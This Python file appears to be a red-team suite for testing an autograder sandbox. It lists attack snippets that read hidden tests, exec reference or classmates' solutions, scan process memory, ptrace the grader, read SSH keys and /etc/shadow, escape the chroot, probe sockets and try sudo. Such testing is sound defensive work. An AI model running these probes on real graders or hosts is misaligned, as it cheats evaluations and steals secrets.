"""Reading what is not theirs: tests, reference, other submissions, environment, processes, descriptors, memory."""

from __future__ import annotations

from red_team.attack import Attack

ATTACKS = [
    Attack(
        "reads_the_tests",
        """
        def read_all():
            return [content(f) for f in glob.glob(KNOWN["suite"] + "/*")] or os.listdir(KNOWN["suite"])

        attempt(read_all)
        attempt(content, KNOWN["suite"] + "/mistakes.py")
        attempt(content, "/proc/1/root" + KNOWN["suite"] + "/mistakes.py")
        everywhere(lambda *args: attempt(read_all) and zeros(*args))
        """,
    ),
    Attack(
        "runs_the_reference",
        """
        for file in ("policy_gradient.py", "baseline.py"):
            source = attempt(content, KNOWN["solution"] + "/" + file)
            if source:
                exec(source, globals())
        """,
    ),
    Attack(
        "copies_its_neighbour",
        """
        say("the class:", attempt(os.listdir, KNOWN["class"]))
        for file in ("policy_gradient.py", "baseline.py"):
            for path in (KNOWN["class"] + "/ada/" + file, "../ada/" + file, "../../" + file):
                source = attempt(content, path)
                if source:
                    exec(source, globals())
        """,
    ),
    Attack(
        "searches_the_disk",
        '''
        def search():
            """Every file that might be a test, a solution or somebody's homework."""
            found = []
            for folder, folders, files in os.walk("/"):
                folders[:] = [f for f in folders if f not in ("proc", "sys", "site-packages", "dist-packages")]
                here = folder + "/"
                if here.startswith(os.getcwd()) or "/lib/python" in here:
                    continue
                found += [here + f for f in files if f.endswith((".py", ".yml", ".json", ".ipynb", ".html"))]
            return found

        for path in attempt(search) or []:
            text = attempt(content, path)
            if text and b"def policy_gradient_loss" in text:
                exec(text, globals())
        ''',
    ),
    Attack(
        "reads_the_environment",
        """
        say("tried:", dict(os.environ))
        for path in ["/proc/self/environ", *glob.glob("/proc/[0-9]*/environ")]:
            attempt(content, path)
        """,
    ),
    Attack(
        "reads_other_processes",
        """
        for pid in {"1", str(os.getppid()), *filter(str.isdigit, attempt(os.listdir, "/proc") or ())}:
            for name in ("cmdline", "maps", "mem", "stack", "environ"):
                attempt(content, f"/proc/{pid}/{name}")
            for name in ("cwd", "root", "exe"):
                attempt(os.readlink, f"/proc/{pid}/{name}")
            for fd in attempt(os.listdir, f"/proc/{pid}/fd") or ():
                attempt(os.readlink, f"/proc/{pid}/fd/{fd}")
            if int(pid) != os.getpid():
                attempt(os.listdir, f"/proc/{pid}/root" + KNOWN["suite"])
                attempt(os.listdir, f"/proc/{pid}/cwd/")
        """,
    ),
    Attack(
        "attaches_to_the_grader",
        """
        libc = ctypes.CDLL(None, use_errno=True)
        ATTACH, SEIZE = 16, 0x4206
        for pid in (1, os.getppid()):
            say("tried:", [libc.ptrace(request, pid, 0, 0) for request in (ATTACH, SEIZE)])
            buffer = ctypes.create_string_buffer(4096)
            vector = struct.pack("PN", ctypes.addressof(buffer), 4096)
            say("tried:", libc.process_vm_readv(pid, vector, 1, vector, 1, 0))
            pidfd = libc.syscall(434, pid, 0)
            say("tried:", [libc.syscall(438, pidfd, fd, 0) for fd in range(8)])
        """,
    ),
    Attack(
        "reads_open_descriptors",
        """
        for fd in range(256):
            try:
                status = os.fstat(fd)
            except OSError:
                continue
            attempt(os.readlink, f"/proc/self/fd/{fd}")
            if stat.S_ISREG(status.st_mode):
                attempt(os.pread, fd, 1 << 16, 0)
            if stat.S_ISDIR(status.st_mode):
                attempt(os.listdir, fd)
                attempt(os.open, "../../../../.." + KNOWN["suite"], os.O_RDONLY, dir_fd=fd)
        """,
    ),
    Attack(
        "digs_in_its_own_memory",
        '''
        import re
        libc = ctypes.CDLL(None)
        libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
        libc.sbrk.restype = ctypes.c_void_p
        PAGE, AROUND = 1 << 16, 1 << 27

        def readable():
            """Memory around objects and the heap, piece by piece: a pipe takes what can be read and refuses what cannot."""
            out, into = os.pipe()
            ends = [id(object()), id(bytes(100_000)), libc.sbrk(0)]
            pages = {p for end in ends for p in range((end - AROUND) // PAGE, (end + AROUND // 2) // PAGE)}
            for page in sorted(pages):
                size = libc.write(into, page * PAGE, PAGE)
                if size > 0:
                    yield os.read(out, size)

        # Brackets, so that it does not find itself.
        WANTED = re.compile(rb"CANAR[Y]-of|mark[.]question[(]|kept = torch[.]where[(]mask, rewards")

        def dig():
            count, found, before = 0, [], b""
            for piece in readable():
                count += len(piece)
                block, before = before + piece, piece[-100:]
                found += [block[max(0, m.start() - 200) : m.start() + 2000] for m in WANTED.finditer(block)]
            say("tried:", count, "bytes")
            return found

        everywhere(zeros)
        for piece in attempt(dig) or ():
            say("DUG OUT:", piece)
        ''',
    ),
    Attack(
        "reads_standard_input",
        """
        attempt(sys.stdin.read)
        attempt(input)
        attempt(os.read, 0, 100)
        attempt(content, "/dev/tty")
        """,
    ),
    Attack(
        "reads_home_and_secrets",
        """
        for path in (KNOWN["home"] + "/.secret", KNOWN["home"], "~/.ssh/id_rsa", "/root/.bash_history", "/etc/shadow",
                     "/etc/hosts", "/var/run/docker.sock", "/run/secrets", "/proc/cmdline", "/proc/sys/kernel/hostname",
                     "/autograder", "/autograder/submission_metadata.json", "/autograder/results"):
            attempt(content, os.path.expanduser(path))
            attempt(os.listdir, os.path.expanduser(path))
        """,
    ),
    Attack(
        "leaves_its_root",
        """
        libc = ctypes.CDLL(None, use_errno=True)
        NEW_USER_AND_MOUNTS = 0x10020000
        say("tried:", libc.unshare(NEW_USER_AND_MOUNTS), libc.chroot(b"/tmp"), libc.setns(0, 0))
        say("tried:", libc.mount(b"/", b"/tmp", None, 4096, None), libc.umount2(b"/tmp", 2))
        attempt(os.chdir, "../../../../../../..")
        attempt(content, KNOWN["suite"].lstrip("/") + "/mistakes.py")
        attempt(os.setuid, 0)
        attempt(os.symlink, KNOWN["suite"], "/tmp/way")
        attempt(os.listdir, "/tmp/way")
        attempt(os.link, KNOWN["solution"] + "/baseline.py", "/tmp/solution.py")
        """,
    ),
    Attack(
        "asks_the_network",
        """
        for family, address in (
            (socket.AF_INET, ("127.0.0.1", 22)),
            (socket.AF_INET, ("1.1.1.1", 53)),
            (socket.AF_INET6, ("::1", 80)),
            (socket.AF_UNIX, "/var/run/docker.sock"),
            (socket.AF_UNIX, "\\0a-friend"),
        ):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                def connect():
                    with socket.socket(family, kind) as one:
                        one.settimeout(0.1)
                        one.connect(address)
                        return "CONNECTED" if family != socket.AF_UNIX or "friend" in str(address) else "unix"
                attempt(connect)
        attempt(socket.getaddrinfo, "pytorch.org", 443)
        attempt(socket.create_server, ("", 8080))
        """,
    ),
    Attack(
        "asks_for_more_rights",
        """
        import subprocess
        for command in (["sudo", "-n", "id"], ["/bin/sh", "-c", "id; env"], ["su", "-c", "id"], [sys.executable, "-c", "print(1)"]):
            attempt(subprocess.run, command, capture_output=True, timeout=1)
        libc = ctypes.CDLL(None, use_errno=True)
        say("tried:", libc.prctl(23, 21, 0, 0, 0), libc.prctl(4, 1, 0, 0, 0), libc.personality(0x0040000))
        say("tried:", [libc.syscall(number, 0, 0, 0, 0) for number in (321, 323, 298, 425, 246, 175, 304)])
        """,
    ),
]
